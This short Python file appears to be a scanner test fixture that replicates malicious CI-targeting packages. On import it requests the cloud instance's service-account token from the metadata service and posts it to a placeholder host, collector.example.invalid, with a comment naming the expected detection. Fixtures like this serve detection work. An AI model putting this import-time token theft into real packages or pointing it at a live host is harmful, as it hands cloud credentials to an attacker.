# Defanged replica of the CI-targeting packages: at import, ask the cloud
# metadata service for the instance's service-account token and forward it
# to another host.
import requests

META = "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"


def send_token():
    token = requests.get(META, headers={"Metadata-Flavor": "Google"}, timeout=2).text
    requests.post("https://collector.example.invalid/log", data={"t": token})  # expect: HS119 high


send_token()
